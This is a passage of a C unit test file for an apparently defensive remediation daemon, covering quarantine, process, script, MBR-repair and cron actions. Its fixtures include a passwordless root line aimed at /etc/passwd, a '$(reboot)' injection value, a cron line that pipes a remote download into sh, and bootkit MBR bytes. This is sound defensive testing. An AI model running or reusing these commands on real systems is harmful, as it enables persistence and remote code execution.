/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * The ARR back end (daemon/arr-exec.c and friends), for real: files, searches, processes
 * (children of this test), a disk image, cron and timer files, scripts, USB sysfs and markers,
 * all in a temporary root (zj_arr_exec_opts.root), and the brief's cleanup rule verbatim
 * against a planted scenario.  Runs as root (chown, immutable flags); exits 77 otherwise.
 */
#define _GNU_SOURCE
#include <check.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stddef.h>
#include <linux/fs.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <json-c/json.h>

#include "zhijia/arr.h"
#include "../../daemon/arr-dispose.h"
#include "../../daemon/arr-exec.h"
#include "../../daemon/arr-inbox.h"
#include "../../daemon/quarantine.h"

static char root[64];
static char qdir[128];
static struct zj_quarantine *q;
static pid_t children[8];
static size_t n_children;

static void rm_rf(const char *path)
{
	char sub[PATH_MAX];
	struct stat st;

	if (lstat(path, &st) < 0)
		return;
	if (S_ISDIR(st.st_mode)) {
		DIR *d = opendir(path);
		struct dirent *de;

		while (d && (de = readdir(d))) {
			if (!strcmp(de->d_name, ".") || !strcmp(de->d_name, ".."))
				continue;
			snprintf(sub, sizeof(sub), "%s/%s", path, de->d_name);
			rm_rf(sub);
		}
		if (d)
			closedir(d);
		(void)rmdir(path);
	} else {
		int fd = open(path, O_RDONLY | O_NOFOLLOW | O_NONBLOCK | O_CLOEXEC);
		int flags;

		/* an immutable marker left by a failed test */
		if (fd >= 0 && ioctl(fd, FS_IOC_GETFLAGS, &flags) == 0 && (flags & FS_IMMUTABLE_FL)) {
			flags &= ~FS_IMMUTABLE_FL;
			(void)ioctl(fd, FS_IOC_SETFLAGS, &flags);
		}
		if (fd >= 0)
			close(fd);
		(void)unlink(path);
	}
}

static void setup(void)
{
	snprintf(root, sizeof(root), "/tmp/zj-arr-exec-XXXXXX");
	ck_assert_ptr_nonnull(mkdtemp(root));
	snprintf(qdir, sizeof(qdir), "%s/quarantine", root);
	ck_assert_int_eq(zj_quarantine_open(qdir, &q), 0);
	n_children = 0;
}

/* Children are killed and the root removed even when a test failed half-way. */
static void teardown(void)
{
	for (size_t i = 0; i < n_children; i++) {
		(void)kill(children[i], SIGKILL);
		(void)waitpid(children[i], NULL, 0);
	}
	n_children = 0;
	zj_quarantine_free(q);
	q = NULL;
	rm_rf(root);
}

static void pathf(char *buf, size_t len, const char *rel)
{
	ck_assert_uint_lt((size_t)snprintf(buf, len, "%s/%s", root, rel), len);
}

static void mkdirs(const char *rel)
{
	char p[PATH_MAX], *s;

	pathf(p, sizeof(p), rel);
	for (s = p + strlen(root) + 1; *s; s++) {
		if (*s == '/') {
			*s = '\0';
			(void)mkdir(p, 0755);
			*s = '/';
		}
	}
	(void)mkdir(p, 0755);
}

static void put(const char *rel, const char *text)
{
	char p[PATH_MAX];
	int fd;

	pathf(p, sizeof(p), rel);
	fd = open(p, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	ck_assert_int_ge(fd, 0);
	ck_assert_int_eq(write(fd, text, strlen(text)), (ssize_t)strlen(text));
	ck_assert_int_eq(close(fd), 0);
}

/* The file's text ("" if missing: use exists()). */
static const char *get(const char *rel, char *buf, size_t len)
{
	char p[PATH_MAX];
	int fd;
	ssize_t n;

	pathf(p, sizeof(p), rel);
	buf[0] = '\0';
	fd = open(p, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return buf;
	n = read(fd, buf, len - 1);
	ck_assert_int_ge(n, 0);
	buf[n] = '\0';
	close(fd);
	return buf;
}

static bool exists(const char *rel)
{
	char p[PATH_MAX];
	struct stat st;

	pathf(p, sizeof(p), rel);
	return lstat(p, &st) == 0;
}

/* Parse text (with %s replaced by the root, every time) and run it. */
static struct zj_arr_run *run_rule_opts(const char *tmpl, const struct zj_arr_exec_opts *o)
{
	char text[16384], err[ZJ_ARR_ERR_MAX];
	struct zj_arr_rule *rule = NULL;
	struct zj_arr_run *run = NULL;
	size_t o_ = 0;

	for (const char *s = tmpl; *s && o_ < sizeof(text) - 80; s++) {
		if (s[0] == '%' && s[1] == 's') {
			o_ += (size_t)snprintf(text + o_, sizeof(text) - o_, "%s", root);
			s++;
		} else {
			text[o_++] = *s;
		}
	}
	text[o_] = '\0';
	if (zj_arr_parse(text, strlen(text), "test.json", &rule, err, sizeof(err)) != 0)
		ck_abort_msg("rule does not parse: %s\n%s", err, text);
	ck_assert_int_eq(zj_arr_exec_run(rule, o, &run), 0);
	zj_arr_rule_free(rule);
	return run;
}

static struct zj_arr_run *run_rule(const char *tmpl)
{
	struct zj_arr_exec_opts o = {.root = root, .q = q};

	return run_rule_opts(tmpl, &o);
}

static void expect(const struct zj_arr_run *run, size_t i, enum zj_arr_status s)
{
	ck_assert_uint_lt(i, run->n_results);
	if (run->results[i].status != s) {
		char *text = NULL;

		(void)zj_arr_run_to_text(run, &text);
		ck_abort_msg("action %zu: %s, expected %s\n%s", i,
			     zj_arr_status_name(run->results[i].status), zj_arr_status_name(s),
			     text ? text : "");
	}
}

static size_t quarantine_count(void)
{
	struct zj_quarantine_item *items;
	size_t n;

	ck_assert_int_eq(zj_quarantine_list(q, &items, &n), 0);
	zj_quarantine_items_free(items, n);
	return n;
}

/* Restore the newest quarantine item whose path ends in suffix (all of them with all). */
static size_t restore_matching(const char *suffix, bool all)
{
	struct zj_quarantine_item *items;
	size_t n, hits = 0;

	ck_assert_int_eq(zj_quarantine_list(q, &items, &n), 0);
	for (size_t i = n; i-- > 0;) {
		size_t pl = strlen(items[i].path), sl = strlen(suffix);

		if (pl < sl || strcmp(items[i].path + pl - sl, suffix) != 0)
			continue;
		ck_assert_int_eq(zj_quarantine_restore(q, items[i].id, NULL, false), 0);
		hits++;
		if (!all)
			break;
	}
	zj_quarantine_items_free(items, n);
	return hits;
}

/* ---- files ---------------------------------------------------------------------------------- */

START_TEST(test_file_actions)
{
	char buf[256], p[PATH_MAX];
	struct zj_arr_run *run;
	struct stat st;

	run = run_rule("{\"name\": \"files\", \"actions\": ["
		       "{\"action\": \"File_Create\", \"path\": \"%s/a.txt\", \"content\": "
		       "\"one\\nkill me\\ntwo\\n\", \"mode\": \"0600\", \"owner\": \"1234:5678\"},"
		       "{\"action\": \"File_Create\", \"path\": \"%s/a.txt\", \"content\": \"x\"},"
		       "{\"action\": \"File_Modify\", \"path\": \"%s/a.txt\", \"append\": \"three\\n\"},"
		       "{\"action\": \"File_Modify\", \"path\": \"%s/a.txt\", \"offset\": 0, "
		       "\"hex\": \"4f\"},"
		       "{\"action\": \"File_DelText\", \"path\": \"%s/a.txt\", \"text\": [\"kill\"]},"
		       "{\"action\": \"File_DelText\", \"path\": \"%s/a.txt\", \"text\": [\"absent\"]},"
		       "{\"action\": \"File_Rename\", \"path\": \"%s/a.txt\", \"to\": \"%s/b.txt\"},"
		       "{\"action\": \"File_Attribute\", \"path\": \"%s/b.txt\", \"mode\": \"0640\", "
		       "\"immutable\": true}"
		       "]}");
	expect(run, 0, ZJ_ARR_DONE);
	expect(run, 1, ZJ_ARR_FAILED); /* exists, no overwrite */
	ck_assert_int_eq(run->results[1].error, -EEXIST);
	expect(run, 2, ZJ_ARR_DONE);
	expect(run, 3, ZJ_ARR_DONE);
	expect(run, 4, ZJ_ARR_DONE);
	expect(run, 5, ZJ_ARR_SKIPPED);
	expect(run, 6, ZJ_ARR_DONE);
	expect(run, 7, ZJ_ARR_DONE);
	ck_assert_uint_eq(run->n_done, 6);
	zj_arr_run_free(run);

	ck_assert(!exists("a.txt"));
	ck_assert_str_eq(get("b.txt", buf, sizeof(buf)), "One\ntwo\nthree\n");
	pathf(p, sizeof(p), "b.txt");
	ck_assert_int_eq(lstat(p, &st), 0);
	ck_assert_uint_eq(st.st_mode & 07777, 0640);
	ck_assert_uint_eq(st.st_uid, 1234); /* owner and mode kept through every rewrite */
	ck_assert_uint_eq(st.st_gid, 5678);
	/* immutable: even root cannot remove it */
	ck_assert_int_eq(unlink(p), -1);
	ck_assert_int_eq(errno, EPERM);
	/* three rewrites kept the old content */
	ck_assert_uint_eq(quarantine_count(), 3);

	run = run_rule("{\"name\": \"unlock and delete\", \"actions\": ["
		       "{\"action\": \"File_Attribute\", \"path\": \"%s/b.txt\", \"immutable\": false},"
		       "{\"action\": \"File_Delete\", \"filenames\": [\"%s/b.txt\", \"%s/none\"]}"
		       "]}");
	expect(run, 0, ZJ_ARR_DONE);
	expect(run, 1, ZJ_ARR_DONE);
	zj_arr_run_free(run);
	ck_assert(!exists("b.txt"));
	ck_assert_uint_eq(quarantine_count(), 4);
	ck_assert_uint_eq(restore_matching("/b.txt", false), 1);
	ck_assert_str_eq(get("b.txt", buf, sizeof(buf)), "One\ntwo\nthree\n");
	ck_assert_int_eq(lstat(p, &st), 0);
	ck_assert_uint_eq(st.st_uid, 1234);
}
END_TEST

START_TEST(test_file_delete_search)
{
	char buf[64], outside[128], link[PATH_MAX], target[PATH_MAX];
	struct zj_arr_run *run;

	mkdirs("d1/d2/d3");
	put("top.bin", "top");
	put("d1/d2/d3/deep.bin", "deep");
	put("d1/keep.txt", "keep");
	mkdirs("d1/dir.bin"); /* a directory of the name: reported, left */
	/* a symlink in the root to a directory outside it: never followed */
	snprintf(outside, sizeof(outside), "%s-outside", root);
	ck_assert_int_eq(mkdir(outside, 0755), 0);
	snprintf(target, sizeof(target), "%s/deep.bin", outside);
	{
		int fd = open(target, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);

		ck_assert_int_ge(fd, 0);
		close(fd);
	}
	pathf(link, sizeof(link), "escape");
	ck_assert_int_eq(symlink(outside, link), 0);

	/* diskroot and alldisk_deep:1: the top directory only */
	run = run_rule("{\"name\": \"s\", \"actions\": ["
		       "{\"action\": \"File_Delete\", \"filenames\": [\"deep.bin\"], "
		       "\"condition\": \"diskroot\"},"
		       "{\"action\": \"File_Delete\", \"filenames\": [\"deep.bin\"], "
		       "\"condition\": \"alldisk_deep:3\"},"
		       "{\"action\": \"File_Delete\", \"filenames\": [\"top.bin\"], \"sha256\": "
		       "[\"0000000000000000000000000000000000000000000000000000000000000000\"], "
		       "\"condition\": \"alldisk_deep:1\"}"
		       "]}");
	expect(run, 0, ZJ_ARR_SKIPPED);
	expect(run, 1, ZJ_ARR_SKIPPED); /* d1/d2/d3/deep.bin is at depth 4 */
	expect(run, 2, ZJ_ARR_SKIPPED); /* another digest */
	zj_arr_run_free(run);
	ck_assert(exists("d1/d2/d3/deep.bin") && exists("top.bin"));

	run = run_rule("{\"name\": \"s\", \"actions\": ["
		       "{\"action\": \"File_Delete\", \"filenames\": [\"deep.bin\", \"dir.bin\", "
		       "\"top.bin\"], \"condition\": \"alldisk\"},"
		       "{\"action\": \"File_Delete\", \"filenames\": [\"deep.bin\"], "
		       "\"condition\": \"systemdisk\"}"
		       "]}");
	expect(run, 0, ZJ_ARR_DONE);
	ck_assert_uint_eq(run->n_done, 1);
	expect(run, 1, ZJ_ARR_SKIPPED);
	zj_arr_run_free(run);
	ck_assert(!exists("d1/d2/d3/deep.bin") && !exists("top.bin"));
	ck_assert(exists("d1/dir.bin") && exists("d1/keep.txt") && exists("escape"));
	ck_assert_int_eq(access(target, F_OK), 0); /* outside, behind the link: untouched */
	ck_assert_uint_eq(quarantine_count(), 2);
	ck_assert_uint_eq(restore_matching("/deep.bin", false), 1);
	ck_assert_str_eq(get("d1/d2/d3/deep.bin", buf, sizeof(buf)), "deep");
	(void)unlink(target);
	(void)rmdir(outside);
}
END_TEST

/* A link in a harmless place that resolves to /etc: refused at run time without "force". */
START_TEST(test_critical_through_symlink)
{
	char link[PATH_MAX];
	struct zj_arr_run *run;
	struct stat before, after;

	pathf(link, sizeof(link), "etc");
	ck_assert_int_eq(symlink("/etc", link), 0);
	ck_assert_int_eq(stat("/etc/passwd", &before), 0);
	run = run_rule("{\"name\": \"sneaky\", \"actions\": ["
		       "{\"action\": \"File_Modify\", \"path\": \"%s/etc/passwd\", \"append\": "
		       "\"evil::0:0::/:/bin/sh\\n\"},"
		       "{\"action\": \"File_Delete\", \"filenames\": [\"%s/etc/shadow\"]},"
		       "{\"action\": \"File_DelText\", \"path\": \"%s/etc/passwd\", \"text\": "
		       "[\"root\"]}"
		       "]}");
	expect(run, 0, ZJ_ARR_FAILED);
	ck_assert_int_eq(run->results[0].error, -EPERM);
	expect(run, 1, ZJ_ARR_FAILED);
	ck_assert_int_eq(run->results[1].error, -EPERM);
	expect(run, 2, ZJ_ARR_FAILED);
	zj_arr_run_free(run);
	ck_assert_int_eq(stat("/etc/passwd", &after), 0);
	ck_assert_int_eq(before.st_size, after.st_size);
	ck_assert_int_eq(before.st_mtime, after.st_mtime);
	ck_assert_int_eq(access("/etc/shadow", F_OK), 0);
	ck_assert_uint_eq(quarantine_count(), 0);
}
END_TEST

/* ---- processes ------------------------------------------------------------------------------ */

static void *idle_thread(void *arg)
{
	(void)arg;
	for (;;)
		pause();
	return NULL;
}

/* A child named name (comm) that maps module (a path under the root, or NULL) and runs
 * threads threads besides its main one.  Returns when the child is ready. */
static pid_t spawn_victim(const char *name, const char *module, int threads)
{
	int ready[2];
	char c;
	pid_t pid;

	ck_assert_int_eq(pipe(ready), 0);
	pid = fork();
	ck_assert_int_ge(pid, 0);
	if (pid == 0) {
		(void)prctl(PR_SET_NAME, name);
		if (module) {
			int fd = open(module, O_RDONLY | O_CLOEXEC);

			if (fd < 0 || mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0) == MAP_FAILED)
				_exit(1);
			close(fd); /* the mapping stays: /proc/PID/maps lists it */
		}
		for (int i = 0; i < threads; i++) {
			pthread_t t;

			if (pthread_create(&t, NULL, idle_thread, NULL) != 0)
				_exit(1);
		}
		(void)!write(ready[1], "r", 1);
		for (;;)
			pause();
	}
	children[n_children++] = pid;
	close(ready[1]);
	ck_assert_int_eq(read(ready[0], &c, 1), 1);
	close(ready[0]);
	return pid;
}

/*
 * Threads a process has that it did not start: 0 natively; 1 under qemu-user (make ARCH=arm64
 * check-unit), whose emulator runs a thread of its own in every process.  Counted on a child
 * that starts none.
 */
static int extra_threads(void)
{
	static int extra = -1;
	int ready[2], n = 0;
	char dir[64], c;
	struct dirent *de;
	DIR *d;
	pid_t pid;

	if (extra >= 0)
		return extra;
	ck_assert_int_eq(pipe(ready), 0);
	pid = fork();
	ck_assert_int_ge(pid, 0);
	if (pid == 0) {
		(void)!write(ready[1], "r", 1);
		for (;;)
			pause();
	}
	close(ready[1]);
	ck_assert_int_eq(read(ready[0], &c, 1), 1);
	close(ready[0]);
	snprintf(dir, sizeof(dir), "/proc/%d/task", pid);
	d = opendir(dir);
	ck_assert_ptr_nonnull(d);
	while ((de = readdir(d)))
		if (de->d_name[0] != '.')
			n++;
	closedir(d);
	(void)kill(pid, SIGKILL);
	(void)waitpid(pid, NULL, 0);
	ck_assert_int_ge(n, 1);
	extra = n - 1;
	return extra;
}

/* Every thread of pid stopped (state T)?  Returns the number of threads, negative if not. */
static int all_stopped(pid_t pid)
{
	char dir[64], p[PATH_MAX], buf[512], *cp;
	struct dirent *de;
	DIR *d;
	int n = 0, bad = 0;

	snprintf(dir, sizeof(dir), "/proc/%d/task", pid);
	d = opendir(dir);
	ck_assert_ptr_nonnull(d);
	while ((de = readdir(d))) {
		int fd;
		ssize_t len;

		if (de->d_name[0] == '.')
			continue;
		snprintf(p, sizeof(p), "%s/%s/stat", dir, de->d_name);
		fd = open(p, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		len = read(fd, buf, sizeof(buf) - 1);
		close(fd);
		if (len <= 0)
			continue;
		buf[len] = '\0';
		cp = strrchr(buf, ')');
		n++;
		if (!cp || cp[2] != 'T')
			bad++;
	}
	closedir(d);
	return bad ? -n : n;
}

START_TEST(test_proc_modify_terminate)
{
	char rule[1024];
	struct zj_arr_run *run;
	int status;
	pid_t a = spawn_victim("zjtestvictima", NULL, 2);
	pid_t b = spawn_victim("zjtestvictimb", NULL, 0);

	snprintf(rule, sizeof(rule),
		 "{\"name\": \"p\", \"actions\": ["
		 "{\"action\": \"Proc_Modify\", \"state\": \"suspend\", \"pids\": [%d]}]}",
		 (int)a);
	run = run_rule(rule);
	expect(run, 0, ZJ_ARR_DONE);
	zj_arr_run_free(run);
	ck_assert_int_eq(all_stopped(a), 3 + extra_threads());

	snprintf(rule, sizeof(rule),
		 "{\"name\": \"p\", \"actions\": ["
		 "{\"action\": \"Proc_Modify\", \"state\": \"resume\", \"pids\": [%d]},"
		 "{\"action\": \"Proc_Terminate\", \"names\": [\"zjtestvictimb\"]},"
		 "{\"action\": \"Proc_Terminate\", \"names\": [\"zj-no-such-process\"]}]}",
		 (int)a);
	run = run_rule(rule);
	expect(run, 0, ZJ_ARR_DONE);
	expect(run, 1, ZJ_ARR_DONE);
	expect(run, 2, ZJ_ARR_SKIPPED);
	zj_arr_run_free(run);
	ck_assert_int_lt(all_stopped(a), 0);
	ck_assert_int_eq(waitpid(b, &status, 0), b);
	ck_assert(WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL);
	children[1] = a; /* b is reaped */
	n_children = 1;
}
END_TEST

START_TEST(test_proc_module_threads)
{
	char mod[PATH_MAX], want[32];
	struct zj_arr_run *run;
	pid_t v, other;

	mkdirs("lib");
	put("lib/zjtestmod.so", "not really a library, but mapped");
	pathf(mod, sizeof(mod), "lib/zjtestmod.so");
	v = spawn_victim("zjtestmodvict", mod, 3);
	other = spawn_victim("zjtestbystand", NULL, 1);
	run = run_rule("{\"name\": \"m\", \"actions\": ["
		       "{\"action\": \"Proc_Module_Threads\", \"modules\": [\"zjtestmod.so\"]}]}");
	expect(run, 0, ZJ_ARR_DONE);
	ck_assert_uint_eq(run->results[0].objects.n, 1);
	snprintf(want, sizeof(want), "%d threads", 4 + extra_threads());
	ck_assert_ptr_nonnull(strstr(run->results[0].objects.v[0], want));
	zj_arr_run_free(run);
	ck_assert_int_eq(all_stopped(v), 4 + extra_threads());
	ck_assert_int_lt(all_stopped(other), 0); /* does not map it: left running */

	run = run_rule("{\"name\": \"m\", \"actions\": ["
		       "{\"action\": \"Proc_Module_Threads\", \"modules\": [\"%s/lib/zjtestmod.so\"], "
		       "\"state\": \"resume\"}]}");
	expect(run, 0, ZJ_ARR_DONE);
	zj_arr_run_free(run);
	ck_assert_int_lt(all_stopped(v), 0);

	/*
	 * The C library is mapped by everything: never suspended without force.  Checked with
	 * a dry run, so that a regression here cannot stop every process on the machine.
	 */
	{
		const char *t = "{\"name\": \"m\", \"actions\": [{\"action\": "
				"\"Proc_Module_Threads\", \"modules\": [\"libc.so.6\"]}]}";
		struct zj_arr_exec_opts o = {.root = root, .q = q};
		char err[ZJ_ARR_ERR_MAX];
		struct zj_arr_rule *rule;
		struct zj_arr_plan *plan;

		ck_assert_int_eq(zj_arr_parse(t, strlen(t), "t", &rule, err, sizeof(err)), 0);
		ck_assert_int_eq(zj_arr_exec_plan(rule, &o, &plan), 0);
		ck_assert_uint_gt(plan->steps[0].objects.n, 1);
		for (size_t i = 0; i < plan->steps[0].objects.n; i++)
			ck_assert_ptr_nonnull(
				strstr(plan->steps[0].objects.v[i], "a system-critical file: left"));
		zj_arr_plan_free(plan);
		zj_arr_rule_free(rule);
	}
}
END_TEST

START_TEST(test_proc_create_and_scripts)
{
	char buf[256];
	struct zj_arr_run *run;
	struct zj_arr_exec_opts o = {.root = root, .q = q};
	struct zj_arr_ctx ctx = {.actor_pid = 4242, .path = {"/tmp/$(reboot)", 14}};
	time_t t0;

	put("prog.sh", "#!/bin/sh\necho \"$1|$2|$ZJ_PATH\" > \"$3\"\n");
	{
		char p[PATH_MAX];

		pathf(p, sizeof(p), "prog.sh");
		ck_assert_int_eq(chmod(p, 0755), 0);
	}
	o.ctx = &ctx;
	run = run_rule_opts(
		"{\"name\": \"scripts\", \"actions\": ["
		"{\"action\": \"Proc_Create\", \"path\": \"/bin/sh\", \"args\": [\"-c\", "
		"\"echo started > %s/created.txt\"]},"
		"{\"action\": \"Script_Shell\", \"script\": \"echo \\\"pid=$ZJ_ACTOR_PID path=$ZJ_PATH\\\" "
		"> %s/shell.txt; echo out\"},"
		"{\"action\": \"Script_Shell\", \"script\": \"echo failing; exit 3\"},"
		"{\"action\": \"Script_File\", \"path\": \"file://%s/prog.sh\", \"args\": [\"a b\", "
		"\"$HOME\", \"%s/file.txt\"]}"
		"]}",
		&o);
	expect(run, 0, ZJ_ARR_DONE);
	expect(run, 1, ZJ_ARR_DONE);
	expect(run, 2, ZJ_ARR_FAILED);
	ck_assert_ptr_nonnull(strstr(run->results[2].reason, "exit status 3: failing"));
	expect(run, 3, ZJ_ARR_DONE);
	zj_arr_run_free(run);
	/* values reach scripts as environment variables only, never as script text */
	ck_assert_str_eq(get("shell.txt", buf, sizeof(buf)), "pid=4242 path=/tmp/$(reboot)\n");
	ck_assert_str_eq(get("file.txt", buf, sizeof(buf)), "a b|$HOME|/tmp/$(reboot)\n");
	/* Proc_Create does not wait: give it a moment */
	for (int i = 0; i < 200 && !exists("created.txt"); i++)
		usleep(10000);
	ck_assert_str_eq(get("created.txt", buf, sizeof(buf)), "started\n");

	/* a script that leaves something running behind it is done when it exits */
	t0 = time(NULL);
	run = run_rule("{\"name\": \"bg\", \"actions\": ["
		       "{\"action\": \"Script_Shell\", \"script\": \"sleep 3 & echo left\", "
		       "\"timeout\": 20}]}");
	expect(run, 0, ZJ_ARR_DONE);
	zj_arr_run_free(run);
	ck_assert_int_le(time(NULL) - t0, 2);

	t0 = time(NULL);
	run = run_rule("{\"name\": \"slow\", \"actions\": ["
		       "{\"action\": \"Script_Shell\", \"script\": \"sleep 30 & sleep 30\", "
		       "\"timeout\": 1}]}");
	expect(run, 0, ZJ_ARR_FAILED);
	ck_assert_int_eq(run->results[0].error, -ETIME);
	zj_arr_run_free(run);
	ck_assert_int_le(time(NULL) - t0, 5);
}
END_TEST

/* ---- File_repairMbr ------------------------------------------------------------------------- */

static const unsigned char darkcloud[16] = {0x31, 0xC0, 0xFA, 0x31, 0xD8, 0x8E, 0xD3, 0x36,
					    0x89, 0x26, 0xFE, 0x7B, 0xBC, 0xFE, 0x7B, 0x1E};

/* A 1 MiB image whose sector 0 begins with the bootkit's bytes, and a clean backup with the
 * same partition table at root/var/lib/zhijia/mbr/NAME.mbr. */
static void make_disk(const char *name, unsigned char *ret_good)
{
	unsigned char bad[512], good[512];
	char p[PATH_MAX], rel[128];
	int fd;

	memset(good, 0, sizeof(good));
	memcpy(good, "\xeb\x63\x90zhijia-clean-boot-code", 25);
	for (int i = 446; i < 510; i++)
		good[i] = (unsigned char)i; /* a partition table */
	good[510] = 0x55;
	good[511] = 0xaa;
	memcpy(bad, good, sizeof(bad));
	memcpy(bad, darkcloud, sizeof(darkcloud));
	memset(bad + 16, 0x90, 100);

	pathf(p, sizeof(p), name);
	fd = open(p, O_RDWR | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	ck_assert_int_ge(fd, 0);
	ck_assert_int_eq(ftruncate(fd, 1 << 20), 0);
	ck_assert_int_eq(pwrite(fd, bad, 512, 0), 512);
	ck_assert_int_eq(pwrite(fd, "data", 4, 4096), 4);
	close(fd);
	mkdirs("var/lib/zhijia/mbr");
	snprintf(rel, sizeof(rel), "var/lib/zhijia/mbr/%s.mbr", name);
	pathf(p, sizeof(p), rel);
	fd = open(p, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
	ck_assert_int_ge(fd, 0);
	ck_assert_int_eq(write(fd, good, 512), 512);
	close(fd);
	if (ret_good)
		memcpy(ret_good, good, 512);
}

static void sector0(const char *name, unsigned char *buf)
{
	char p[PATH_MAX];
	int fd;

	pathf(p, sizeof(p), name);
	fd = open(p, O_RDONLY | O_CLOEXEC);
	ck_assert_int_ge(fd, 0);
	ck_assert_int_eq(pread(fd, buf, 512, 0), 512);
	close(fd);
}

START_TEST(test_repair_mbr)
{
	unsigned char good[512], now[512], tail[4];
	char p[PATH_MAX], disk[PATH_MAX];
	const char *disks[] = {disk, NULL};
	struct zj_arr_exec_opts o = {.root = root, .q = q, .system_disks = disks};
	struct zj_arr_run *run;
	int fd;

	make_disk("disk.img", good);
	pathf(disk, sizeof(disk), "disk.img");
	run = run_rule_opts("{\"name\": \"mbr\", \"actions\": ["
		       "{\"action\": \"File_repairMbr\", \"data\": \"backup\", "
		       "\"condition\": \"[Unequal],[offset:0],[31 C0 FA]\"},"
		       "{\"action\": \"File_repairMbr\", \"data\": \"backup\", "
		       "\"condition\": \"[equal],[offset:0],[31 C0 FA 31 D8 8E D3 "
		       "36 89 26 FE 7B BC FE 7B 1E]\"},"
		       "{\"action\": \"File_repairMbr\", \"data\": \"backup\", "
		       "\"condition\": \"[equal],[offset:0],[31 C0 FA]\"}"
		       "]}", &o);
	expect(run, 0, ZJ_ARR_SKIPPED); /* it is equal */
	expect(run, 1, ZJ_ARR_DONE);
	expect(run, 2, ZJ_ARR_SKIPPED); /* repaired: no longer matches */
	zj_arr_run_free(run);
	sector0("disk.img", now);
	ck_assert_mem_eq(now, good, 512);
	pathf(p, sizeof(p), "disk.img");
	fd = open(p, O_RDONLY | O_CLOEXEC);
	ck_assert_int_eq(pread(fd, tail, 4, 4096), 4); /* the rest of the disk is untouched */
	close(fd);
	ck_assert_mem_eq(tail, "data", 4);

	/* the replaced sector is in quarantine, and goes back in place */
	ck_assert_uint_eq(restore_matching("/disk.img", false), 1);
	sector0("disk.img", now);
	ck_assert_mem_eq(now, darkcloud, 16);

	/* zhijia's own backup of a disk: sector 0 as it is now, under the root */
	ck_assert_int_eq(zj_arr_mbr_backup(root, disk), 0);
	{
		char b[600];
		int bfd;

		pathf(p, sizeof(p), "var/lib/zhijia/mbr/disk.img.mbr");
		bfd = open(p, O_RDONLY | O_CLOEXEC);
		ck_assert_int_ge(bfd, 0);
		ck_assert_int_eq(read(bfd, b, sizeof(b)), 512);
		close(bfd);
		ck_assert_mem_eq(b, darkcloud, 16);
		/* put the clean one back for what follows */
		bfd = open(p, O_WRONLY | O_TRUNC | O_CLOEXEC);
		ck_assert_int_eq(write(bfd, good, 512), 512);
		close(bfd);
	}

	/* a backup with another partition table is refused without force */
	{
		unsigned char other[512];

		memcpy(other, good, 512);
		other[450] ^= 0xff;
		pathf(p, sizeof(p), "other.sector");
		fd = open(p, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
		ck_assert_int_eq(write(fd, other, 512), 512);
		close(fd);
	}
	run = run_rule_opts("{\"name\": \"mbr\", \"actions\": ["
		       "{\"action\": \"File_repairMbr\", \"data\": \"%s/other.sector\", "
		       "\"condition\": \"[equal],[offset:0],[31 C0 FA]\"}]}", &o);
	expect(run, 0, ZJ_ARR_FAILED);
	ck_assert_int_eq(run->results[0].error, -ESTALE);
	zj_arr_run_free(run);
	sector0("disk.img", now);
	ck_assert_mem_eq(now, darkcloud, 16);
}
END_TEST

/* ---- tasks ---------------------------------------------------------------------------------- */

START_TEST(test_task_cron)
{
	char buf[1024];
	struct zj_arr_run *run;

	mkdirs("etc/cron.d");
	mkdirs("var/spool/cron/crontabs");
	put("var/spool/cron/crontabs/bob", "# m h dom mon dow command\n"
					   "*/5 * * * * curl -s http://203.0.113.9/kinsing | sh\n"
					   "0 1 * * * /usr/bin/backup\n");
	run = run_rule("{\"name\": \"cron\", \"actions\": ["
		       "{\"action\": \"Task_Create\", \"type\": \"cron\", \"task\": \"zjtest\", "
		       "\"schedule\": \"@daily\", \"command\": \"date +%F >> /tmp/x\"},"
		       "{\"action\": \"Task_Create\", \"type\": \"cron\", \"task\": \"zjtest\", "
		       "\"schedule\": \"@daily\", \"command\": \"true\"},"
		       "{\"action\": \"Task_Modify\", \"type\": \"cron\", \"task\": \"zjtest\", "
		       "\"enabled\": false},"
		       "{\"action\": \"Task_Modify\", \"type\": \"cron\", \"match\": [\"kinsing\"], "
		       "\"enabled\": false}"
		       "]}");
	expect(run, 0, ZJ_ARR_DONE);
	expect(run, 1, ZJ_ARR_FAILED);
	expect(run, 2, ZJ_ARR_DONE);
	expect(run, 3, ZJ_ARR_DONE);
	zj_arr_run_free(run);
	ck_assert_ptr_nonnull(strstr(get("etc/cron.d/zjtest", buf, sizeof(buf)),
				     "\n#zhijia-disabled# @daily root date +\\%F >> /tmp/x\n"));
	ck_assert_str_eq(get("var/spool/cron/crontabs/bob", buf, sizeof(buf)),
			 "# m h dom mon dow command\n"
			 "#zhijia-disabled# */5 * * * * curl -s http://203.0.113.9/kinsing | sh\n"
			 "0 1 * * * /usr/bin/backup\n");

	run = run_rule("{\"name\": \"cron\", \"actions\": ["
		       "{\"action\": \"Task_Modify\", \"type\": \"cron\", \"task\": \"zjtest\", "
		       "\"enabled\": true, \"schedule\": \"30 4 * * 1\"},"
		       "{\"action\": \"Task_Delete\", \"type\": \"cron\", \"match\": [\"kinsing\"]},"
		       "{\"action\": \"Task_Delete\", \"type\": \"cron\", \"task\": \"zjtest\"},"
		       "{\"action\": \"Task_Delete\", \"type\": \"cron\", \"task\": \"zjtest\"}"
		       "]}");
	expect(run, 0, ZJ_ARR_DONE);
	expect(run, 1, ZJ_ARR_DONE);
	expect(run, 2, ZJ_ARR_DONE);
	expect(run, 3, ZJ_ARR_FAILED); /* gone */
	zj_arr_run_free(run);
	ck_assert(!exists("etc/cron.d/zjtest"));
